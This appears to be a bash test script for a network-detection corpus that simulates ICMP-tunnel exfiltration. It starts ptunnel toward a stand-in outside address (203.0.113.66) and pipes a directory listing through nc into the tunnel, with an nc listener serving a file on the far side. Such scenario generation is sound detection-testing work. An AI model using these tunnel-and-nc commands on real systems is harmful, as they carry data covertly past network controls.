#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=icmp-tunnel half=report tool=ptunnel,nc far=out seconds=20
# The older ptunnel: somebody outside types into a connection that echo carries, and takes lists away.
# shellcheck disable=SC2012
if [ "$1" = out ]; then (while :; do nc -l -p 7000 -N </usr/share/perl/5.36/perl5db.pl >/dev/null; done) & exec timeout 40 ptunnel; fi
timeout 18 ptunnel -p 203.0.113.66 -lp 8000 -da 203.0.113.66 -dp 7000 >/dev/null 2>&1 &
sleep 1
ls -laR /usr/share/doc | head -c 400000 | timeout 14 nc -N 127.0.0.1 8000 >/dev/null
wait; true
